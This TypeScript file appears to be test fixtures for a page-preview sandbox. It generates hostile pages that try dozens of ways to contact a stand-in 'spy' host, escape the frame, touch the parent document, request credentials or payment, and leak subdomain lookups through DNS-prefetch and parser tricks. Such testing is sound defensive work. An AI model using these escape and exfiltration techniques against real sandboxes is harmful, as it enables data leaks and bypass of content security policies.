/** A page of an answer that tries everything that a preview must not do: what an App tries, and more. */
import { hostile } from './hostile-app.ts'

/** What the frame lends a page in its memory, or agrees to by itself, so that it looks reached. */
export const LENT = ['local storage', 'session storage', 'dialog']

/** Each attempt says how it ended; the spies tell of those that give no answer. */
export function hostilePreview(spy: string, udpPort: number): string {
  const page = hostile(spy, udpPort)
  const more = `const attempts = {
  'shared worker': () => new SharedWorker(spy + 'shared'),
  'worker of a data address': () => new Promise((done, fail) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = done; w.onerror = () => fail(new Error('denied')) }),
  'function from text': () => new Function('return 1')(),
  'timer from text': () => new Promise((done, fail) => { window.fromText = done; setTimeout('fromText()', 1); setTimeout(fail, 500, new Error('denied')) }),
  'transport': () => new WebTransport(spy.replace('http:', 'https:')).ready,
  'font': () => new FontFace('x', 'url(' + spy + 'font)').load(),
  'module of a host': () => load('script', { type: 'module', src: spy + 'module-script' }),
  'audio worklet': () => new AudioContext().audioWorklet.addModule(spy + 'worklet'),
  'file system': () => navigator.storage.getDirectory(),
  'file picker': () => showOpenFilePicker(),
  'cookie store': () => cookieStore.set('a', 'b'),
  'lock of the app': () => navigator.locks.request('palimpsest', () => 1),
  'channel to the app': () => { new BroadcastChannel('palimpsest').postMessage('x'); throw new Error('another origin hears nothing') },
  'holder document': () => parent.document.body.innerHTML,
  'holder policy': () => parent.document.head.append('x'),
  'holder navigation': () => { parent.location.href = spy + 'holder'; return new Promise((_, fail) => setTimeout(fail, 500, new Error('denied'))) },
  'top function': () => top.fetch(spy + 'top-fetch'),
  'sibling frame': () => { for (let at = 0; at < parent.parent.length; at += 1) parent.parent[at].document.title },
  'history': () => history.pushState(null, '', spy + 'history'),
  'domain': () => { document.domain = '127.0.0.1' },
  'notification': () => Notification.requestPermission().then(answer => { if (answer !== 'granted') throw new Error('denied') }),
  'screen': () => navigator.mediaDevices.getDisplayMedia(),
  'full screen': () => document.documentElement.requestFullscreen(),
  'pointer': () => document.body.requestPointerLock(),
  'serial port': () => navigator.serial.requestPort(),
  'credentials': () => navigator.credentials.get({ password: true }).then(found => { if (!found) throw new Error('denied') }),
  'payment': () => new PaymentRequest([{ supportedMethods: spy }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show(),
  'peer connection of a written frame': () => { document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); return peer(document.body.querySelector('iframe').contentWindow.RTCPeerConnection) },
  'peer connection of a cloned frame': () => { const t = document.createElement('template'); t.innerHTML = '<iframe></iframe>'; document.body.append(t.content.cloneNode(true)); return peer(window[0].RTCPeerConnection) },`
  const silent = `
  document.head.insertAdjacentHTML('beforeend', '<style>@import "' + spy + 'import"; @font-face { font-family: x; src: url(' + spy + 'face) } body { font-family: x; background: url(' + spy + 'background); cursor: url(' + spy + 'cursor), auto; list-style: url(' + spy + 'list) } p::before { content: url(' + spy + 'content) }</style>')
  document.body.insertAdjacentHTML('beforeend', '<p style="border-image: url(' + spy + 'border)">x</p><svg><image href="' + spy + 'svg-image"/><use href="' + spy + 'use#x"/><filter id="f"><feImage href="' + spy + 'fe-image"/></filter><rect filter="url(#f)" width="9" height="9"/></svg><picture><source srcset="' + spy + 'srcset"><img src="data:,"></picture><input type="image" src="' + spy + 'input"><audio src="' + spy + 'audio"></audio><video poster="' + spy + 'poster"><track src="' + spy + 'track"></video><embed src="' + spy + 'embed"><a id="down" download="x" href="data:text/plain,x">x</a><a id="away" target="_top" href="' + spy + 'away">x</a><a id="blank" target="_blank" href="' + spy + 'blank">x</a><form id="above" target="_top" action="' + spy + 'above"></form><table background="' + spy + 'table"></table>')
  for (const id of ['down', 'away', 'blank']) document.getElementById(id).click()
  document.getElementById('above').submit()
  const rules = document.createElement('script')
  rules.type = 'speculationrules'
  rules.textContent = JSON.stringify({ prefetch: [{ urls: [spy + 'rule'] }], prerender: [{ urls: [spy + 'rule-prerender'] }] })
  document.head.append(rules)
  document.head.insertAdjacentHTML('beforeend', '<link rel="preconnect" href="' + spy + '">')
  document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', crossOrigin: '', href: spy }))
  const late = document.head.appendChild(document.createElement('link'))
  late.href = spy
  late.rel = 'preconnect'
  document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: spy + 'module-preload' }))
  if (window.fetchLater) try { fetchLater(spy + 'later', { activateAfter: 0 }) } catch {}
  const refresh = document.createElement('meta')
  refresh.httpEquiv = 'refresh'
  refresh.content = '1;url=' + spy + 'refresh'
  navigator.sendBeacon(spy + 'beacon')`
  return page
    .replace('const attempts = {', () => more)
    .replace("navigator.sendBeacon(spy + 'beacon')", () => silent)
    .replace(
      '<script>',
      () =>
        `<link rel=preconnect href="${spy}"><link rel=preload as=fetch href="${spy}static-preload"><iframe src="${spy}static-frame"></iframe><div><template shadowrootmode=closed><iframe srcdoc="<script>new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${udpPort}'}]}).createDataChannel('x')</script>"></iframe></template></div><script>`,
    )
}

/** Leaves its frame with what it knows, in a way of its choice. */
export const LEAVING: readonly (readonly [way: string, script: (spy: string) => string])[] = [
  ['location', spy => `location.href = '${spy}leave-location'`],
  ['replace', spy => `location.replace('${spy}leave-replace')`],
  [
    'link',
    spy => `Object.assign(document.createElement('a'), { href: '${spy}leave-link' }).click()`,
  ],
  [
    'refresh',
    spy =>
      `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${spy}leave-refresh'; document.head.append(m)`,
  ],
  ['open', spy => `open('${spy}leave-open', '_self')`],
  [
    'form',
    spy =>
      `document.body.innerHTML = '<form action="${spy}leave-form">'; addEventListener('submit', e => e.stopImmediatePropagation(), true); document.forms[0].requestSubmit()`,
  ],
  [
    'app',
    () => `location.href = new URL('./index.html', document.referrer || 'http://127.0.0.1/')`,
  ],
]

/** Tries to have names under this one looked up, by hints and links, which no policy covers. */
export function lookingUp(domain: string): string {
  const at = (name: string) => `//${name}.${domain}/`
  return `<meta http-equiv="x-dns-prefetch-control" content="on">
<link rel="dns-prefetch" href="${at('static')}"><link rel="preconnect" href="${at('static-preconnect')}"><link rel="prefetch" href="http:${at('static-prefetch')}">
<a href="http:${at('static-link')}">x</a><!--><link rel="dns-prefetch" href="${at('behind-comment')}">--><style>@import "http:${at('css-import')}"; body { background: url("http:${at('css-image')}") }</style><img src="http:${at('static-image')}">
<p id="report"></p>
<script>document.write('<li'); document.write('nk rel="dns-prefetch" href="${at('pieces')}">'); document.write('<lin')</script>k rel="dns-prefetch" href="${at('continued')}">
<script>
const domain = ${JSON.stringify(domain)}
const address = name => 'http://' + name + '.' + domain + '/'
const add = (name, attributes) => document.head.appendChild(Object.assign(document.createElement(name), attributes))
add('meta', { httpEquiv: 'x-dns-prefetch-control', content: 'on' })
for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'icon', 'manifest'])
  add('link', { rel, href: address('late-' + rel) })
const changed = add('link', { href: address('changed') })
changed.rel = 'dns-prefetch'
const hint = (name, tag = 'link') => '<' + tag + ' rel="dns-prefetch preconnect" href="' + address(name) + '"/>'
const inMath = document.createElementNS('http://www.w3.org/1999/xhtml', 'h:link')
inMath.setAttribute('rel', 'dns-prefetch')
inMath.setAttribute('href', address('prefixed'))
document.head.append(inMath)
const place = () => document.body.appendChild(document.createElement('div'))
const attempts = [
  () => { place().innerHTML = hint('inner') },
  () => document.body.append(document.createRange().createContextualFragment(hint('fragment'))),
  () => document.body.append(document.importNode(new DOMParser().parseFromString(hint('parsed'), 'text/html').querySelector('link'), true)),
  () => document.body.append(document.importNode(new DOMParser().parseFromString('<h:p xmlns:h="http://www.w3.org/1999/xhtml">' + hint('parsed-xml', 'h:link') + '<h:template>' + hint('parsed-template', 'h:link') + '</h:template></h:p>', 'text/xml').documentElement, true)),
  () => document.body.append(new DOMParser().parseFromString('<h:template xmlns:h="http://www.w3.org/1999/xhtml">' + hint('template', 'h:link') + '</h:template>', 'text/xml').documentElement.content),
  () => document.body.append(document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link').documentElement),
  () => { const t = document.createElement('template'); t.innerHTML = hint('of-template'); document.body.append(t.content) },
  () => { customElements.define('a-link', class extends HTMLLinkElement {}, { extends: 'link' }); document.head.append(Object.assign(document.createElement('link', { is: 'a-link' }), { rel: 'dns-prefetch', href: address('custom') })) },
  () => place().setHTMLUnsafe(hint('unsafe')),
  () => place().setHTML(hint('sanitized'), { sanitizer: { elements: ['link'], attributes: ['rel', 'href'] } }),
  () => document.execCommand('insertHTML', false, hint('command')),
  () => { const x = new XMLHttpRequest(); x.open('GET', 'data:text/xml,' + encodeURIComponent('<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="dns-prefetch" href="' + address('requested') + '"/>')); x.responseType = 'document'; x.onload = () => document.body.append(document.importNode(x.response, true)); x.send() },
  () => { trustedTypes.createPolicy('mine', { createHTML: words => words }) },
  () => { String.prototype.replace = String.prototype.indexOf = () => 'x'; document.body.insertAdjacentHTML('beforeend', hint('replaced')) },
]
for (const attempt of attempts) try { attempt() } catch {}
document.body.insertAdjacentHTML('beforeend', '<link rel=dns-prefetch href="' + address('written') + '"><a href="' + address('written-link') + '">y</a><svg><a href="' + address('drawn-link') + '"><text>z</text></a></svg>')
const shadow = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' })
shadow.innerHTML = '<link rel=dns-prefetch href="' + address('shadow') + '"><a href="' + address('shadow-link') + '">y</a>'
for (const way of [() => fetch(address('fetch')), () => navigator.sendBeacon(address('beacon')), () => new WebSocket('ws://socket.' + domain), () => new Image().src = address('image')])
  try { Promise.resolve(way()).catch(() => {}) } catch {}
add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [address('rule')] }] }) })
setTimeout(() => { document.getElementById('report').textContent = 'tried' }, 1000)
</script>`
}
